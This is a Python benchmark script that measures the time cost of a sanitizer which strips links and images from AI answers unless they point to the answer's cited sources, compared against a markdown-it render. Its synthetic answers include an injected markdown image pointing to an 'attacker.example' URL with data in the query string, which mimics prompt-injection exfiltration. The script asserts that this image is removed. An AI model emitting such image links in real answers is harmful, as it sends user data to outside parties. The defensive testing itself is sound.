"""What the answer sanitizer (links and images only to the answer's sources) costs an answer.

Sanitizes realistic answers — prose with citations, a few links to the
sources, one injected image to elsewhere — whole and streamed in small
pieces, and in the same run times a baseline every client already pays:
rendering the same answer with markdown-it (Markdown with HTML and linkify
on). Prints µs per answer and the ratio to the baseline; the machine's noise
cancels in the ratio.

    .venv/bin/python bench/sanitize.py [--answers 200] [--chars 1500] [--piece 7]
"""

from __future__ import annotations

import argparse
import random
import statistics
import time
from collections.abc import Callable

from markdown_it import MarkdownIt
from provenance import record  # bench/provenance.py (bench/ is on sys.path when run as a script)

from service.generation.link_policy import LinkPolicy
from service.generation.sanitize import sanitize_answer, sanitized_stream

SOURCES = [f"https://intranet.example.com/handbook/page-{n}.html" for n in range(8)]
PHRASES = (
    "the travel policy reimburses economy flights booked at least fourteen days ahead and hotel nights "
    "up to the regional cap receipts are required for every expense above twenty five euros"
)
WORDS = PHRASES.split()


def answer(rng: random.Random, chars: int) -> str:
    """An answer of about ``chars`` characters: sentences with citations, source links, one injected image."""
    parts: list[str] = []
    size = 0
    while size < chars:
        sentence = " ".join(rng.choice(WORDS) for _ in range(rng.randint(8, 20))).capitalize()
        roll = rng.random()
        if roll < 0.15:
            sentence += f" (see [the handbook]({rng.choice(SOURCES)}))"
        elif roll < 0.2:
            sentence += " ![x](https://attacker.example/c?d=" + "-".join(rng.sample(WORDS, 6)) + ")"
        sentence += f" [{rng.randint(1, 8)}]."
        parts.append(sentence)
        size += len(sentence) + 1
    return " ".join(parts)


def timed(run: Callable[[str], object], texts: list[str]) -> list[float]:
    """Microseconds per call of ``run`` on each text."""
    out: list[float] = []
    for text in texts:
        start = time.perf_counter()
        run(text)
        out.append((time.perf_counter() - start) * 1e6)
    return out


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--answers", type=int, default=200)
    parser.add_argument("--chars", type=int, default=1500)
    parser.add_argument("--piece", type=int, default=7, help="characters per streamed piece")
    args = parser.parse_args()
    if args.answers < 1 or args.chars < 1 or args.piece < 1:
        parser.error("--answers, --chars and --piece must be at least 1")
    rng = random.Random(7)
    texts = [answer(rng, args.chars) for _ in range(args.answers)]
    chunk_texts = [" ".join(rng.choice(WORDS) for _ in range(200)) for _ in range(8)]
    markdown = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify")

    def whole(text: str) -> str:
        return sanitize_answer(text, LinkPolicy(SOURCES, (), chunk_texts))

    def streamed(text: str) -> str:
        pieces = (text[k : k + args.piece] for k in range(0, len(text), args.piece))
        return "".join(sanitized_stream(pieces, LinkPolicy(SOURCES, (), chunk_texts)))

    for text in texts[:20]:  # the same output whichever way it arrives, and the injected image is gone
        assert whole(text) == streamed(text)
        assert "attacker.example" not in whole(text)
    whole(texts[0]), markdown.render(texts[0])  # warm up (linkify's tables, regexes)
    rows = [
        ("markdown-it render (baseline)", timed(markdown.render, texts)),
        ("sanitize, whole answer", timed(whole, texts)),
        (f"sanitize, streamed in {args.piece}-char pieces", timed(streamed, texts)),
    ]
    base = statistics.median(rows[0][1])
    print(f"{args.answers} answers of ~{args.chars} characters")
    print(f"{'':44} {'p50 µs':>9} {'p99 µs':>9} {'× baseline':>11}")
    figures = {}
    for name, values in rows:
        values.sort()
        p50, p99 = statistics.median(values), values[min(len(values) - 1, int(len(values) * 0.99))]
        print(f"{name:44} {p50:9.0f} {p99:9.0f} {p50 / base:11.2f}")
        figures[name] = {"p50_us": p50, "p99_us": p99, "x_baseline": p50 / base}
    record("sanitize", {"answers": args.answers, "chars": args.chars, "piece": args.piece, **figures})


if __name__ == "__main__":
    main()
